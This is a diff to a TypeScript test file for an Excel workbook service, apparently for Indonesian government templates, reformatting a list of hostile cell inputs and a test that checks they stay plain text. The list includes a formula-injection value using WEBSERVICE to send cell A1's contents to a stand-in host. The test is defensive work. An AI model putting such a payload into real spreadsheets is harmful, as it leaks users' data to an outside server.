@@ -11,7 +11,13 @@ import { fakeHost, FakeWorkbookState } from "../../../src/dev/fakeExcel";
 import { createWorkbookService } from "../../../src/excel/workbookService";
 import { KASI_PEMERINTAHAN_2025 } from "../../support/templateOptions";
 
-const HOSTILE = ['=WEBSERVICE("http://contoh.invalid/?d="&A1)', "+1+2", "-Kasubag Umum dan Kepegawaian", "@SUM(A1:A3)", "'kutip"];
+const HOSTILE = [
+  '=WEBSERVICE("http://contoh.invalid/?d="&A1)',
+  "+1+2",
+  "-Kasubag Umum dan Kepegawaian",
+  "@SUM(A1:A3)",
+  "'kutip",
+];
 
 describe("asCellText", () => {
   it.each([
@@ -42,7 +48,8 @@ describe("hostile catalogue text stays text", () => {
     const model = buildTemplate(katalog, KASI_PEMERINTAHAN_2025);
     const { sheet } = await service.insertTemplate(model, { kind: "lembar-baru" });
     const cells = [...state.sheet(sheet)!.cells.values()];
-    for (const text of HOSTILE.slice(0, 4)) expect(cells.some((c) => c.value === text && !c.formula)).toBe(true);
+    for (const text of HOSTILE.slice(0, 4))
+      expect(cells.some((c) => c.value === text && !c.formula)).toBe(true);
     // The only formulas are the template's own computed cells.
     expect(cells.filter((c) => c.formula).every((c) => /^=IKI\./.test(c.formula!))).toBe(true);
   });
